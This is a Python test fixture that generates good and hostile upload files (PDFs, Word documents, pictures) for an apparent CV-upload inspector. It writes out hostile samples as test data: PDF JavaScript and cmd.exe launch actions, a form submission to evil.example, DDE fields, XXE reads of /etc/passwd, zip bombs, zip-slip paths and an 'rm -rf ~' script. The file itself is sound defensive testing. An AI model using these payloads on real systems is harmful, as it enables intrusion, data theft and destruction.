"""The corpus: good files as nurses have them, hostile ones with the name of what is wrong, disarmed ones.

Every file is made here. A maker runs when its file is asked for, so that collecting the tests stays quick.
"""

import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from random import Random
from zipfile import ZipFile

from tests.inspection import packages as word
from tests.inspection import pdfs, pictures
from web.inspection import LARGEST_FILE, MOST_PAGES, FileKind, Refusal

Make = Callable[[], bytes]

MEBIBYTE = 1024 * 1024
DEEP = b"[" * 20_000 + b"]" * 20_000
LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>]"
IMAGE = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"

GOOD: dict[str, tuple[Make, FileKind]] = {
    "photo lying on its side": (pictures.telephone_photo, FileKind.JPEG),
    "photo upright": (lambda: pictures.telephone_photo(1), FileKind.JPEG),
    "photo of two pictures": (pictures.two_in_one, FileKind.JPEG),
    "photo that comes in steps": (lambda: pictures.jpeg(progressive=True), FileKind.JPEG),
    "grey scan": (lambda: pictures.jpeg(mode="L"), FileKind.JPEG),
    "scan in printing colours": (lambda: pictures.jpeg(mode="CMYK"), FileKind.JPEG),
    "large photo": (lambda: pictures.jpeg((6000, 4000)), FileKind.JPEG),
    "picture of the screen": (lambda: pictures.png(mode="RGBA"), FileKind.PNG),
    "picture with few colours": (lambda: pictures.png(mode="P"), FileKind.PNG),
    "black and white": (lambda: pictures.png(mode="1"), FileKind.PNG),
    "picture with words": (pictures.telling_png, FileKind.PNG),
    "one page": (pdfs.pdf, FileKind.PDF),
    "as many pages as may be": (lambda: pdfs.pdf(pages=MOST_PAGES), FileKind.PDF),
    "old PDF": (lambda: pdfs.pdf(version=b"1.3"), FileKind.PDF),
    "new PDF": (lambda: pdfs.packed_objects(b"<< /Title (CV) >>"), FileKind.PDF),
    "PDF with a link": (lambda: pdfs.pdf(page=LINK % b"https://nmc.example/register"), FileKind.PDF),
    "PDF that opens at its top": (lambda: pdfs.pdf(catalogue=b"/OpenAction [3 0 R /Fit]"), FileKind.PDF),
    "filled form": (
        lambda: pdfs.pdf(catalogue=b"/AcroForm << /Fields [<< /FT /Tx /T (name) /V (Ama) >>] >>"),
        FileKind.PDF,
    ),
    "scan as PDF": (
        lambda: pdfs.pdf(
            pdfs.stream(pictures.jpeg(), IMAGE + b" /Filter /DCTDecode /Width 120 /Height 80"),
            page=b"/Resources << /XObject << /I 5 0 R >> >>",
        ),
        FileKind.PDF,
    ),
    "packed scan": (
        lambda: pdfs.pdf(pdfs.flate(b"\x7f" * 9_600, IMAGE + b" /Width 120 /Height 80")),
        FileKind.PDF,
    ),
    "PDF saved twice": (lambda: pdfs.later_edition(pdfs.pdf(), 5, b"<< /Title (CV) >>"), FileKind.PDF),
    "PDF with white space behind": (lambda: pdfs.pdf() + b"\r\n\0\0", FileKind.PDF),
    "CV": (word.docx, FileKind.DOCX),
    "CV with a photo": (
        lambda: word.docx({"word/media/image1.jpeg": pictures.telephone_photo()}),
        FileKind.DOCX,
    ),
    "CV with a link": (
        lambda: word.docx(
            {
                "word/_rels/document.xml.rels": word.relations(("hyperlink", "https://example.org", True)),
                "word/document.xml": word.document(word.field(' HYPERLINK "https://example.org" ')),
            }
        ),
        FileKind.DOCX,
    ),
    "CV by somebody": (
        lambda: word.docx({"docProps/core.xml": f"<x>{pictures.SECRET}</x>", "docProps/app.xml": "<x/>"}),
        FileKind.DOCX,
    ),
    "long CV": (
        lambda: word.docx({"word/document.xml": word.document("<w:p/>" * 20_000)}),
        FileKind.DOCX,
    ),
}

# What is dangerous in them is gone from what is kept.
DISARMED: dict[str, tuple[Make, FileKind, bytes]] = {
    "place of a photo": (pictures.telephone_photo, FileKind.JPEG, pictures.SECRET.encode()),
    "place of a photo in a CV": (
        lambda: word.docx({"word/media/image1.jpeg": pictures.telephone_photo()}, method=0),
        FileKind.DOCX,
        pictures.SECRET.encode(),
    ),
    "who wrote a CV": (
        lambda: word.docx({"docProps/core.xml": f"<x>{pictures.SECRET}</x>"}),
        FileKind.DOCX,
        pictures.SECRET.encode(),
    ),
    "words in a picture": (pictures.telling_png, FileKind.PNG, pictures.SECRET.encode()),
    "package behind a photo": (lambda: pictures.jpeg() + word.docx(), FileKind.JPEG, b"PK\x03\x04"),
    "page behind a picture": (lambda: pictures.png() + b"<script>alert(1)", FileKind.PNG, b"<script"),
    "script in a photo's comment": (
        lambda: pictures.jpeg(comment=b"*/=1;alert(1)/*<script>"),
        FileKind.JPEG,
        b"<script",
    ),
    "film behind a photo": (lambda: pictures.jpeg() + b"\0\0\0\x18ftypmp42", FileKind.JPEG, b"ftyp"),
}


def unpacked(data: bytes) -> bytes:
    """Give a file, and what is packed in it."""
    if not data.startswith(b"PK"):
        return data
    with ZipFile(BytesIO(data)) as package:
        return b"".join(package.read(name) for name in package.namelist())


@cache
def bomb() -> bytes:
    """Pack 200 MB of nothing."""
    return zlib.compress(b"\0" * (200 * MEBIBYTE), 9)


def acting(action: bytes) -> Make:
    """Make a PDF that does something when it is opened."""
    return lambda: pdfs.pdf(catalogue=b"/OpenAction << %s >>" % action)


def with_part(name: str, content: str | bytes = b"MZ") -> Make:
    """Make a Word document with one part more."""
    return lambda: word.docx({name: content})


def with_relation(kind: str, target: str, *, outside: bool = True) -> Make:
    """Make a Word document that needs something."""
    rows = word.relations((kind, target, outside))
    return lambda: word.docx({"word/_rels/document.xml.rels": rows})


def with_text(body: str, before: str = "") -> Make:
    """Make a Word document with this text."""
    return lambda: word.docx({"word/document.xml": word.document(body, before)})


def of_type(main: str, **more: str) -> Make:
    """Make a package of another type."""
    return lambda: word.docx({"[Content_Types].xml": word.types(main, **more)})


WRONG_KIND: dict[str, tuple[Make, Refusal]] = {
    "nothing": (bytes, Refusal.EMPTY),
    "a byte too many": (lambda: pdfs.pdf() + b"\n" * LARGEST_FILE, Refusal.TOO_LARGE),
    "photo of an iPhone": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", Refusal.HEIC),
    "burst of an iPhone": (lambda: b"\0\0\0\x18ftypmsf1\0\0\0\0msf1", Refusal.HEIC),
    "AVIF": (lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1", Refusal.OTHER_PICTURE),
    "film": (lambda: b"\0\0\0\x18ftypmp42\0\0\0\0isom", Refusal.UNKNOWN),
    "GIF": (lambda: pictures.other_kind("GIF"), Refusal.OTHER_PICTURE),
    "GIF that is a script": (lambda: b"GIF89a/*\x01\0\0*/=1;alert(1)", Refusal.OTHER_PICTURE),
    "TIFF": (lambda: pictures.other_kind("TIFF"), Refusal.OTHER_PICTURE),
    "WebP": (lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 24, Refusal.OTHER_PICTURE),
    "BMP": (lambda: pictures.other_kind("BMP"), Refusal.OTHER_PICTURE),
    "SVG": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        Refusal.MARKUP,
    ),
    "SVG after an XML line": (lambda: b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', Refusal.MARKUP),
    "HTML": (lambda: b"<!doctype html><script>alert(1)</script>", Refusal.MARKUP),
    "HTML after white space": (lambda: b"\xef\xbb\xbf\n\n  <html></html>", Refusal.MARKUP),
    "HTML in wide letters": (lambda: "\ufeff<html></html>".encode("utf-16-le"), Refusal.MARKUP),
    "program": (lambda: b"MZ\x90\0" + b"\0" * 200, Refusal.UNKNOWN),
    "program for Linux": (lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 64, Refusal.UNKNOWN),
    "script": (lambda: b"#!/bin/sh\nrm -rf ~\n", Refusal.UNKNOWN),
    "plain text": (lambda: b"I am a midwife.", Refusal.UNKNOWN),
    "NUL alone": (lambda: b"\0" * 500, Refusal.UNKNOWN),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, Refusal.OTHER_DOCUMENT),
    "Word with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        Refusal.ENCRYPTED,
    ),
    "RTF": (lambda: rb"{\rtf1\ansi{\object\objdata 01}}", Refusal.OTHER_DOCUMENT),
    "RAR": (lambda: b"Rar!\x1a\x07\x01\0", Refusal.ARCHIVE),
    "7z": (lambda: b"7z\xbc\xaf'\x1c\0\x04", Refusal.ARCHIVE),
    "gzip": (lambda: b"\x1f\x8b\x08\0" + b"\0" * 20, Refusal.ARCHIVE),
    "folder of scans": (lambda: word.package({"diploma.pdf": pdfs.pdf()}), Refusal.ARCHIVE),
    "empty package": (lambda: word.package({}), Refusal.ARCHIVE),
    "OpenDocument": (
        lambda: word.package({"mimetype": "application/vnd.oasis.opendocument.text"}),
        Refusal.OTHER_DOCUMENT,
    ),
    "sheet": (
        of_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        Refusal.OTHER_DOCUMENT,
    ),
}

PICTURES: dict[str, tuple[Make, Refusal]] = {
    "half a photo": (lambda: pictures.jpeg((800, 600))[:2_000], Refusal.DAMAGED),
    "head of a photo": (lambda: b"\xff\xd8\xff\xe0", Refusal.DAMAGED),
    "photo with a program in it": (lambda: b"\xff\xd8\xffMZ" + b"\x90" * 500, Refusal.DAMAGED),
    "half a picture": (lambda: pictures.png((800, 600))[:300], Refusal.DAMAGED),
    "picture of 900 million pixels": (
        lambda: pictures.png_that_claims(30_000, 30_000),
        Refusal.TOO_MANY_PIXELS,
    ),
    "picture of 2**62 pixels": (
        lambda: pictures.png_that_claims(2**31 - 1, 2**31 - 1),
        Refusal.TOO_MANY_PIXELS,
    ),
    "photo of 4 thousand million pixels": (
        lambda: pictures.jpeg_that_claims(65_000, 65_000),
        Refusal.TOO_MANY_PIXELS,
    ),
    "picture that says more than it has": (lambda: pictures.png_that_claims(4_000, 4_000), Refusal.DAMAGED),
    "moving picture": (pictures.moving_png, Refusal.OTHER_PICTURE),
}

PDFS: dict[str, tuple[Make, Refusal]] = {
    "script when opened": (acting(b"/S /JavaScript /JS (app.alert(1))"), Refusal.ACTIVE),
    "script, written otherwise": (acting(b"/S /#4aava#53cript /#4aS (app.alert(1))"), Refusal.ACTIVE),
    "script in a packed object": (
        lambda: pdfs.packed_objects(
            b"<< /S /JavaScript /JS (app.alert(1)) >>", catalogue=b"/OpenAction 6 0 R"
        ),
        Refusal.ACTIVE,
    ),
    "scripts by name": (
        lambda: pdfs.pdf(catalogue=b"/Names << /JavaScript << /Names [(a) << /JS (1) >>] >> >>"),
        Refusal.ACTIVE,
    ),
    "script nothing points to": (lambda: pdfs.pdf(b"<< /S /JavaScript /JS (1) >>"), Refusal.ACTIVE),
    "script in an older edition": (
        lambda: pdfs.later_edition(pdfs.pdf(b"<< /S /JavaScript /JS (1) >>"), 5, b"<< /Title (CV) >>"),
        Refusal.ACTIVE,
    ),
    "script in a later edition": (
        lambda: pdfs.later_edition(pdfs.pdf(b"<< >>"), 5, b"<< /S /JavaScript /JS (1) >>"),
        Refusal.ACTIVE,
    ),
    "script when a page turns": (
        lambda: pdfs.pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
        Refusal.ACTIVE,
    ),
    "starts a program": (acting(b"/S /Launch /F (cmd.exe)"), Refusal.ACTIVE),
    "sends a form": (acting(b"/S /SubmitForm /F (https://evil.example)"), Refusal.ACTIVE),
    "reads another file": (acting(b"/S /GoToR /F (\\\\\\\\evil\\\\share)"), Refusal.OUTSIDE),
    "link to a file": (lambda: pdfs.pdf(page=LINK % b"file:///etc/passwd"), Refusal.OUTSIDE),
    "link that is a script": (lambda: pdfs.pdf(page=LINK % b"javascript:alert(1)"), Refusal.OUTSIDE),
    "stream from elsewhere": (
        lambda: pdfs.pdf(pdfs.stream(b"", b"/F (https://evil.example/a)")),
        Refusal.OUTSIDE,
    ),
    "form that changes itself": (
        lambda: pdfs.pdf(catalogue=b"/AcroForm << /XFA 5 0 R /Fields [] >>"),
        Refusal.ACTIVE,
    ),
    "film": (
        lambda: pdfs.pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        Refusal.ACTIVE,
    ),
    "file inside": (
        lambda: pdfs.pdf(
            catalogue=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << >> >>] >> >>"
        ),
        Refusal.ATTACHMENTS,
    ),
    "file pinned to a page": (
        lambda: pdfs.pdf(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
        Refusal.ATTACHMENTS,
    ),
    "folder of files": (lambda: pdfs.pdf(catalogue=b"/Collection << >>"), Refusal.ATTACHMENTS),
    "password": (
        lambda: pdfs.pdf(
            trailer=b"/ID [(0123456789abcdef) (0123456789abcdef)] /Encrypt << /Filter /Standard /V 1 /R 2 "
            b"/O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -44 >>"
        ),
        Refusal.ENCRYPTED,
    ),
    "a page too many": (lambda: pdfs.pdf(pages=MOST_PAGES + 1), Refusal.TOO_MANY_PAGES),
    "no page": (lambda: pdfs.pdf(pages=0), Refusal.DAMAGED),
    "no end": (lambda: pdfs.pdf().replace(b"%%EOF", b""), Refusal.DAMAGED),
    "head of a PDF": (lambda: b"%PDF-1.7\n%%EOF\n", Refusal.DAMAGED),
    "page tree that bites its tail": (
        lambda: pdfs.pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        Refusal.DAMAGED,
    ),
    "boxes in boxes": (lambda: pdfs.pdf(DEEP), Refusal.DAMAGED),
    "200 MB in 200 kB": (
        lambda: pdfs.pdf(pdfs.stream(bomb(), b"/Filter /FlateDecode")),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "a thousand MB in many streams": (
        lambda: pdfs.pdf(*[pdfs.flate(b"\0" * (150 * MEBIBYTE))] * 6),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "packed twice": (
        lambda: pdfs.pdf(pdfs.stream(zlib.compress(bomb()), b"/Filter [/FlateDecode /FlateDecode]")),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "packed objects that swell": (
        lambda: pdfs.packed_objects(b"<< >>" + b" " * (200 * MEBIBYTE)),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "scan of 10 thousand million pixels": (
        lambda: pdfs.pdf(pdfs.flate(b"\0", IMAGE + b" /Width 100000 /Height 100000")),
        Refusal.TOO_MANY_PIXELS,
    ),
    "60,000 objects": (lambda: pdfs.pdf(*[b"<< >>"] * 60_000), Refusal.TOO_MUCH_INSIDE),
    "PDF behind a page": (lambda: b"<html>" + pdfs.pdf(), Refusal.MIXED),
    "PDF with a page in its head": (
        lambda: pdfs.pdf(version=b"1.7\n%<script>alert(1)</script>"),
        Refusal.MIXED,
    ),
    "package behind a PDF": (lambda: pdfs.pdf() + word.docx(), Refusal.MIXED),
    "package inside a PDF": (
        lambda: pdfs.pdf()[:-6] + word.docx()[:-2] + b"\x07\0\n%%EOF\n",
        Refusal.MIXED,
    ),
    "words behind a PDF": (lambda: pdfs.pdf() + b"<script>alert(1)</script>", Refusal.MIXED),
}


def long_part() -> str:
    """Write 24 MB that cannot be packed small enough to look like a bomb."""
    dice = Random(1)
    return f"<x>{dice.getrandbits(600_000):b}</x>"[:-4] * 40


LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
OUTSIDER = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"

WORD: dict[str, tuple[Make, Refusal]] = {
    "macros": (of_type(MACROS), Refusal.MACROS),
    "macros without saying so": (with_part("word/vbaProject.bin"), Refusal.MACROS),
    "macros under another name": (with_relation("vbaProject", "media/a.xml", outside=False), Refusal.MACROS),
    "template from elsewhere": (with_relation("attachedTemplate", "https://evil.example/a"), Refusal.OUTSIDE),
    "picture from elsewhere": (with_relation("image", "https://evil.example/pixel.png"), Refusal.OUTSIDE),
    "link to a share": (with_relation("hyperlink", r"\\evil\share"), Refusal.OUTSIDE),
    "link that is a script": (with_relation("hyperlink", "javascript:alert(1)"), Refusal.OUTSIDE),
    "object": (with_relation("oleObject", "embeddings/a.bin", outside=False), Refusal.ATTACHMENTS),
    "control": (with_relation("control", "activeX/a.xml", outside=False), Refusal.ATTACHMENTS),
    "page inside": (with_relation("aFChunk", "a.html", outside=False), Refusal.ATTACHMENTS),
    "file inside": (with_part("word/embeddings/oleObject1.bin"), Refusal.ATTACHMENTS),
    "document inside": (with_part("word/embeddings/a.docx", word.docx()), Refusal.ATTACHMENTS),
    "program inside": (with_part("word/run.exe"), Refusal.ATTACHMENTS),
    "drawing for printers": (with_part("word/media/image1.emf", b"\x01\0\0\0"), Refusal.OTHER_PICTURE),
    "SVG inside": (with_part("word/media/image1.svg", b"<svg/>"), Refusal.OTHER_PICTURE),
    "no picture under a picture's name": (with_part("word/media/image1.png", b"MZ"), Refusal.DAMAGED),
    "field that runs": (with_text(word.field(" DDEAUTO c:\\\\cmd.exe ")), Refusal.ACTIVE),
    "field in pieces": (with_text(word.field(" D", "DE", "AUTO cmd ")), Refusal.ACTIVE),
    "short field that runs": (with_text('<w:fldSimple w:instr="DDE cmd"/>'), Refusal.ACTIVE),
    "field that fetches": (with_text(word.field(' INCLUDETEXT "https://evil.example" ')), Refusal.ACTIVE),
    "a thousand laughs": (with_text("<w:p>&c;</w:p>", LAUGHS), Refusal.DAMAGED),
    "a file of ours": (with_text("<w:p>&a;</w:p>", OUTSIDER), Refusal.DAMAGED),
    "no XML": (with_part("word/document.xml", b"MZ"), Refusal.DAMAGED),
    "no text": (
        lambda: word.package({"[Content_Types].xml": word.types(), "word/other.xml": "<x/>"}),
        Refusal.OTHER_DOCUMENT,
    ),
    "15 MB in 15 kB": (with_part("word/a.xml", b" " * (15 * MEBIBYTE)), Refusal.TOO_MUCH_INSIDE),
    "one part of 24 MB": (lambda: word.docx({"word/a.xml": long_part()}), Refusal.TOO_MUCH_INSIDE),
    "100 MB in many parts": (
        lambda: word.docx({f"word/{number}.xml": b" " * MEBIBYTE for number in range(100)}),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "1,500 parts": (
        lambda: word.docx({f"word/{number}.xml": "<x/>" for number in range(1_500)}),
        Refusal.TOO_MUCH_INSIDE,
    ),
    "parts over each other": (word.overlapping_docx, Refusal.DAMAGED),
    "part called twice the same": (lambda: word.docx_with_entry("word/document.xml"), Refusal.DAMAGED),
    "part with two names": (word.renamed_docx, Refusal.DAMAGED),
    "part above": (lambda: word.docx_with_entry("../../etc/cron.d/a.xml"), Refusal.DAMAGED),
    "part from the root": (lambda: word.docx_with_entry("/etc/cron.d/a.xml"), Refusal.DAMAGED),
    "part on drive C": (lambda: word.docx_with_entry("C:\\a.xml"), Refusal.DAMAGED),
    "link to a file": (
        lambda: word.docx_with_entry("word/a.xml", b"/etc/passwd", external_attr=0o120777 << 16),
        Refusal.DAMAGED,
    ),
    "part that lies about its size": (
        lambda: word.patched(word.docx(), b"PK\x01\x02", 24, b"\x05\0\0\0"),
        Refusal.DAMAGED,
    ),
    "package for giants": (word.giant_docx, Refusal.DAMAGED),
    "part with a password": (word.encrypted_docx, Refusal.ENCRYPTED),
    "words behind a CV": (lambda: word.docx() + b"<script>alert(1)</script>", Refusal.MIXED),
    "comment of a package": (
        lambda: word.docx()[:-2] + b"\x09\0<script>a",
        Refusal.MIXED,
    ),
    "half a CV": (lambda: word.docx()[:-40], Refusal.DAMAGED),
}

HOSTILE: dict[str, tuple[Make, Refusal]] = {
    f"{group}: {name}": case
    for group, cases in {"kind": WRONG_KIND, "picture": PICTURES, "pdf": PDFS, "word": WORD}.items()
    for name, case in cases.items()
}
